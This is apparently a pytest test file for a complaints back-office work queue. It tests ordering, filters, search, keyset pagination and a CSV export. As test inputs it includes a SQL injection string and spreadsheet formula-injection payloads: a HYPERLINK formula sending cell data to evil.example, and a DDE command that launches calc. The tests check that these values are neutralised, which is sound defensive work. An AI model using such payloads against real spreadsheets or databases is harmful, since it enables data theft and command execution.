"""The work queue over HTTP: its order, each filter, search, pages by key, bad keys, and the
CSV export with its guard against formulas."""

from __future__ import annotations

import csv
import io
from datetime import date
from urllib.parse import parse_qs, urlsplit

import pytest

from shared.cases import Actor, NewComplainant, NewRepresentative, work_queue
from tests import committed as lifecycle
from tests.factories import PASSWORD, acknowledge, at, make_staff, respond, submit
from tests.helpers import freeze

QUEUE = "/backoffice/"
EXPORT = "/backoffice/open-complaints.csv"


def names(page) -> list[str]:
    return [
        row.select("td")[1].get_text(strip=True)
        for row in page.soup.select("table.govuk-table tbody tr")
    ]


def link(page, rel: str) -> str | None:
    """The "next" or "prev" page link."""
    found = page.soup.find("a", rel=rel)
    return found["href"] if found else None


def person(name: str, email: str = "resident@example.com", postcode: str | None = None):
    return {"complainant": NewComplainant(name=name, email=email, postcode=postcode)}


@pytest.fixture
def manager(app):
    return make_staff("complaints_manager", name="Morgan Manager")


@pytest.fixture
def signed_in(client, manager):
    client.submit(
        "/backoffice/sign-in",
        {"email": manager.email, "password": PASSWORD},
        follow_redirects=True,
    )
    return client


@pytest.fixture
def cases(app, monkeypatch, manager):
    """Today is Wednesday 5 March 2025; stage 1 is acknowledged 5 working days after receipt."""
    freeze(monkeypatch, "2025-03-05 09:00")
    made = {
        # Due Mon 24 Feb: 7 working days overdue.
        "Cat Late": submit(
            received="2025-02-17 10:00", **person("Cat Late", postcode="SW1A 1AA")
        ).complaint,
        # Due today.
        "Ben Today": submit(
            received="2025-02-26 10:00",
            service_area_code="parking",
            **person("Ben Today", email="Ben.Today@Example.com"),
        ).complaint,
        # Due Thu 6 Mar, made by the resident's MP.
        "Dee Tomorrow": submit(
            received="2025-02-27 10:00",
            representative=NewRepresentative(
                name="Pat Member",
                email="pat.member@parliament.example",
                role="mp",
                consent_given_how="signed_form",
                consent_given_on=date(2025, 2, 26),
            ),
            **person("Dee Tomorrow"),
        ).complaint,
        # Due Mon 10 Mar; about benefits first, and parking too.
        "Ann Later": submit(
            received="2025-03-03 10:00",
            service_area_codes=["benefits", "parking"],
            **person("Ann Later"),
        ).complaint,
    }
    # Stage 2 asked for on Tue 4 Mar: to be acknowledged by Tue 11 Mar.
    review = submit(received="2025-01-06 10:00", **person("Eve Review")).complaint
    acknowledge(review, manager, on="2025-01-07 10:00")
    respond(review, manager, on="2025-01-14 10:00")
    lifecycle.request_stage_two(Actor.resident(), review, at=at("2025-03-04 10:00"))
    made["Eve Review"] = review
    # Answered at stage 1: open, owing nothing, so last (by id among themselves).
    for name in ("Fay Answered", "Gus Answered"):
        answered = submit(received="2025-02-03 10:00", **person(name)).complaint
        acknowledge(answered, manager, on="2025-02-04 10:00")
        respond(answered, manager, on="2025-02-10 10:00")
        made[name] = answered
    # Closed: never in the queue.
    closed = submit(received="2025-02-03 10:00", **person("Hal Closed")).complaint
    acknowledge(closed, manager, on="2025-02-04 10:00")
    respond(closed, manager, on="2025-02-10 10:00")
    lifecycle.close(Actor.staff(manager), closed, at=at("2025-02-11 10:00"))
    return made


ORDER = [
    "Cat Late",
    "Ben Today",
    "Dee Tomorrow",
    "Ann Later",
    "Eve Review",
    "Fay Answered",
    "Gus Answered",
]


# -- order and filters -------------------------------------------------------------------------


def test_the_queue_lists_open_complaints_next_deadline_first_those_owing_nothing_last(
    signed_in, cases
):
    page = signed_in.page(QUEUE)

    assert page.status_code == 200
    assert names(page) == ORDER
    assert "7 open complaints, the next deadline first." in page.text()
    assert link(page, "next") is None and link(page, "prev") is None


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status": "received"}, ["Cat Late", "Ben Today", "Dee Tomorrow", "Ann Later"]),
        ({"status": "stage_2_requested"}, ["Eve Review"]),
        ({"stage": "2"}, ["Eve Review"]),
        ({"stage": "1"}, ["Cat Late", "Ben Today", "Dee Tomorrow", "Ann Later", *ORDER[5:]]),
        # The main area, as the queue shows it.
        ({"service_area": "parking"}, ["Ben Today"]),
        ({"service_area": "benefits"}, ["Ann Later"]),
        ({"representative_role": "mp"}, ["Dee Tomorrow"]),
        ({"representative_role": "solicitor"}, []),
        ({"overdue": "y"}, ["Cat Late"]),
        ({"due_within": "0"}, ["Cat Late", "Ben Today"]),
        ({"due_within": "1"}, ["Cat Late", "Ben Today", "Dee Tomorrow"]),
        ({"due_within": "4"}, ["Cat Late", "Ben Today", "Dee Tomorrow", "Ann Later", "Eve Review"]),
        ({"stage": "1", "service_area": "parking", "due_within": "0"}, ["Ben Today"]),
        ({"overdue": "y", "service_area": "parking"}, []),
    ],
    ids=lambda value: (
        "&".join(f"{k}={v}" for k, v in value.items()) if isinstance(value, dict) else None
    ),
)
def test_each_filter_narrows_the_queue(signed_in, cases, query, expected):
    page = signed_in.page(QUEUE, query_string=query)

    assert page.status_code == 200
    assert names(page) == expected
    if expected:
        count = len(expected)
        noun = "complaint matches" if count == 1 else "complaints match"
        assert f"{count} open {noun} the filters." in page.text()
    else:
        assert "No open complaints match the filters." in page.text()
    # The form shows what was chosen, so the next search keeps it.
    for name, value in query.items():
        if name == "overdue":
            assert page.soup.find("input", attrs={"name": "overdue"}).has_attr("checked")
        else:
            assert page.value_of(name) == value


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("later", ["Ann Later"]),  # part of a name, in any case
        ("  ANN   later ", ["Ann Later"]),
        ("ben.today@example.COM", ["Ben Today"]),  # an email address, in any case
        ("example.com", []),  # part of an email address is not a name
        ("sw1a1aa", ["Cat Late"]),  # a postcode, with or without its space
        ("SW1A 1AA", ["Cat Late"]),
        ("%", []),  # wildcards are only characters
        ("_", []),
        ("Hal Closed", []),  # closed complaints are not in the queue
    ],
)
def test_search_by_name_email_or_postcode(signed_in, cases, search, expected):
    page = signed_in.page(QUEUE, query_string={"q": search})

    assert names(page) == expected
    assert page.value_of("q") == search


def test_search_by_reference_finds_that_complaint(signed_in, cases):
    reference = cases["Dee Tomorrow"].reference

    page = signed_in.page(QUEUE, query_string={"q": reference.lower()})

    assert names(page) == ["Dee Tomorrow"]
    assert page.soup.find("a", string=reference)["href"] == f"/backoffice/complaints/{reference}"


def test_a_due_within_that_is_not_a_number_is_explained_and_the_rest_still_applies(
    signed_in, cases
):
    page = signed_in.page(QUEUE, query_string={"due_within": "soon", "stage": "2"})

    assert page.status_code == 400
    assert page.title.startswith("Error: Open complaints")
    message = "Enter the number of working days as a whole number from 0 to 250, like 5"
    assert page.error_summary() == [message]
    assert page.field_error("due_within") == f"Error: {message}"
    assert page.value_of("due_within") == "soon"
    assert names(page) == ["Eve Review"]


def test_a_choice_no_form_offers_is_left_out(signed_in, cases):
    page = signed_in.page(QUEUE, query_string={"stage": "9", "status": "closed"})

    assert page.status_code == 200
    assert names(page) == ORDER


# -- pages by key ------------------------------------------------------------------------------


def walk(client, start: str, rel: str) -> tuple[list[list[str]], list[str]]:
    """Follow the links marked rel from start to the end: each page's names, each URL."""
    url, pages, urls = start, [], []
    while url:
        page = client.page(url)
        assert page.status_code == 200
        pages.append(names(page))
        urls.append(url)
        url = link(page, rel)
        assert len(pages) < 10, "the links go round in circles"
    return pages, urls


def test_next_and_previous_links_walk_the_whole_queue_by_key(signed_in, cases, monkeypatch):
    monkeypatch.setattr(work_queue, "PER_PAGE", 2)

    forward, urls = walk(signed_in, QUEUE, "next")

    # Across the boundary between complaints with a deadline and those owing nothing.
    assert forward == [ORDER[0:2], ORDER[2:4], ORDER[4:6], ORDER[6:7]]
    for url in urls[1:]:
        assert set(parse_qs(urlsplit(url).query)) == {"after"}
    first = signed_in.page(QUEUE)
    assert "7 open complaints" in first.text()

    backward, _ = walk(signed_in, urls[-1], "prev")

    assert backward == [ORDER[6:7], ORDER[4:6], ORDER[2:4], ORDER[0:2]]


def test_filters_are_kept_from_page_to_page(signed_in, cases, monkeypatch):
    monkeypatch.setattr(work_queue, "PER_PAGE", 2)
    query = {"stage": "1", "q": "a"}  # every stage 1 name but Dee's has an "a"

    forward, urls = walk(signed_in, f"{QUEUE}?stage=1&q=a", "next")

    assert forward == [["Cat Late", "Ben Today"], ["Ann Later", "Fay Answered"], ["Gus Answered"]]
    kept = parse_qs(urlsplit(urls[1]).query)
    assert {k: v[0] for k, v in kept.items() if k != "after"} == query
    backward, urls = walk(signed_in, urls[-1], "prev")
    assert backward == [["Gus Answered"], ["Ann Later", "Fay Answered"], ["Cat Late", "Ben Today"]]
    assert parse_qs(urlsplit(urls[1]).query)["q"] == ["a"]


def test_a_page_reached_by_key_stays_put_when_earlier_complaints_close(
    signed_in, cases, monkeypatch
):
    monkeypatch.setattr(work_queue, "PER_PAGE", 2)
    second_page = link(signed_in.page(QUEUE), "next")
    lifecycle.withdraw(Actor.resident(), cases["Cat Late"], at=at("2025-03-05 10:00"))

    page = signed_in.page(second_page)

    # Keyed on the last row seen, not on a count: nothing is skipped or shown twice.
    assert names(page) == ["Dee Tomorrow", "Ann Later"]
    # One complaint is left before it: "previous" shows the first page, whole.
    assert names(signed_in.page(link(page, "prev"))) == ["Ben Today", "Dee Tomorrow"]


@pytest.mark.parametrize(
    "query",
    [
        {"after": "garbage"},
        {"after": ""},
        {"after": "2025-13-45.3"},
        {"after": "2025-03-05"},
        {"after": "2025-03-05.-1"},
        {"after": "2025-03-05.0"},
        {"after": "none.99999999999"},
        {"after": "2025-03-05.1e3"},
        {"before": "'; DROP TABLE complaints; --"},
        # Well formed, but nothing is after it or before it: stale.
        {"after": "none.2147483647"},
        {"before": "2000-01-01.1"},
    ],
)
def test_a_garbled_or_stale_key_gives_the_first_page(signed_in, cases, monkeypatch, query):
    monkeypatch.setattr(work_queue, "PER_PAGE", 3)

    response = signed_in.get(QUEUE, query_string=query)

    assert response.status_code == 200
    page = signed_in.page(QUEUE, query_string=query)
    assert names(page) == ORDER[:3]
    assert link(page, "prev") is None
    assert link(page, "next") is not None


def test_previous_from_the_second_page_is_the_whole_first_page(signed_in, cases, monkeypatch):
    monkeypatch.setattr(work_queue, "PER_PAGE", 3)
    second = signed_in.page(link(signed_in.page(QUEUE), "next"))
    assert names(second) == ORDER[3:6]

    first = signed_in.page(link(second, "prev"))

    assert names(first) == ORDER[:3]
    assert link(first, "prev") is None


def test_the_count_stops_at_a_limit_and_says_more_than(signed_in, cases, monkeypatch):
    monkeypatch.setattr(work_queue, "COUNT_LIMIT", 5)
    monkeypatch.setattr(work_queue, "PER_PAGE", 2)  # a first page that holds all is counted

    page = signed_in.page(QUEUE)
    filtered = signed_in.page(QUEUE, query_string={"stage": "1"})

    assert "More than 5 open complaints, the next deadline first." in page.text()
    assert "More than 5 open complaints match the filters." in filtered.text()
    assert (
        "4 open complaints match the filters."
        in signed_in.page(QUEUE, query_string={"status": "received"}).text()
    )


# -- the CSV export ----------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_export_has_every_matching_complaint_in_queue_order(signed_in, cases, monkeypatch):
    monkeypatch.setattr(work_queue, "EXPORT_BATCH", 2)  # reads in batches, by key
    page = signed_in.page(QUEUE, query_string={"service_area": "parking"})
    export_link = page.soup.find("a", string=lambda s: s and "spreadsheet" in s)["href"]
    assert parse_qs(urlsplit(export_link).query) == {"service_area": ["parking"]}

    everything = signed_in.get(EXPORT, buffered=True)
    parking = signed_in.get(export_link, buffered=True)

    assert everything.status_code == 200
    assert everything.mimetype == "text/csv"
    assert everything.headers["Content-Disposition"] == (
        'attachment; filename="open-complaints-2025-03-05.csv"'
    )
    assert everything.headers["Cache-Control"] == "no-store"
    rows = read_csv(everything)
    assert rows[0] == [
        "Reference",
        "Resident",
        "Email",
        "Postcode",
        "Service",
        "Status",
        "Stage",
        "Received",
        "Next deadline",
        "Working days left",
    ]
    assert [row[1] for row in rows[1:]] == ORDER
    cat = rows[1]
    assert cat == [
        cases["Cat Late"].reference,
        "Cat Late",
        "resident@example.com",
        "SW1A 1AA",
        "Repairs and maintenance",
        "Received",
        "1",
        "2025-02-17",
        "2025-02-24",
        "-7",
    ]
    assert rows[-1][8:] == ["", ""]  # nothing owed
    assert [row[1] for row in read_csv(parking)[1:]] == ["Ben Today"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ],
)
def test_the_export_cannot_carry_a_formula(signed_in, app, monkeypatch, name):
    freeze(monkeypatch, "2025-03-05 09:00")
    submit(received="2025-03-03 10:00", **person(name, email="=1+1@example.com"))

    rows = read_csv(signed_in.get(EXPORT, buffered=True))

    assert rows[1][1] == "'" + name
    assert rows[1][2] == "'=1+1@example.com"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1][:6])


def test_the_export_is_for_signed_in_staff_only(client, cases):
    response = client.get(EXPORT, buffered=True)

    assert response.status_code == 302
    assert urlsplit(response.headers["Location"]).path == "/backoffice/sign-in"


def test_my_cases_are_the_complaints_i_handle(signed_in, cases, manager):
    officer = make_staff("investigating_officer", name="Ines Investigator")
    lifecycle.assign(Actor.staff(manager), cases["Ben Today"], handler_id=manager.id)
    lifecycle.assign(Actor.staff(manager), cases["Ann Later"], handler_id=str(officer.id))

    page = signed_in.page(f"{QUEUE}?mine=y")

    assert names(page) == ["Ben Today"]
    assert page.soup.select_one("input[name=mine]").has_attr("checked")
    export = signed_in.get(f"{EXPORT}?mine=y").get_data(as_text=True)
    assert [row[1] for row in csv.reader(io.StringIO(export))][1:] == ["Ben Today"]
